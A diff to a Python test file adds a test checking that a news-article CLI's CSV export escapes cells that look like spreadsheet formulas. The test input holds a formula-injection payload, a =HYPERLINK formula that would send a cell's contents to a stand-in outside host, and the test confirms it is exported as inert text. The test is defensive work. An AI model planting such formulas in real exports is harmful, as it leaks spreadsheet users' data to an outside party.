@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import io
 import json
 import os
 import signal
@@ -488,3 +489,26 @@ def test_cli_eval_bad_file_names_the_line(tmp_path, capsys, task, line, message)
     bad.write_text(line + "\n", encoding="utf-8")
     assert main(["eval", task, str(bad)]) == 2
     assert f"bad.jsonl:{message}" in capsys.readouterr().err
+
+
+def test_cli_csv_cells_that_look_like_formulas_stay_text(tmp_path, capsys):
+    """Article fields are untrusted: a CSV a spreadsheet opens must not run "=HYPERLINK(...)"."""
+    import csv
+
+    article = tmp_path / "a.txt"
+    article.write_text(
+        'date 2021-03-04\ntitle =HYPERLINK("http://example.invalid/?x="&A1,"open")\nsource +Wire\n\n'
+        "=1+2 Police arrested forty protesters in Quito on Tuesday.\n",
+        encoding="utf-8",
+    )
+    db = str(tmp_path / "f.db")
+    assert main(["run", str(article), "--db", db, "--quiet"]) == 0
+    capsys.readouterr()
+    _, out, _ = dl("articles", "--db", db, "--format", "csv", capsys=capsys)
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert row["title"].startswith("'=HYPERLINK(") and row["source"] == "'+Wire"
+    exported = tmp_path / "e.csv"
+    assert main(["export", "--db", db, "--format", "csv", "--out", str(exported)]) == 0
+    rows = list(csv.DictReader(exported.open(encoding="utf-8")))
+    assert rows and all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())
+    assert any(r["evidence_text"].startswith("'=1+2 Police") for r in rows)
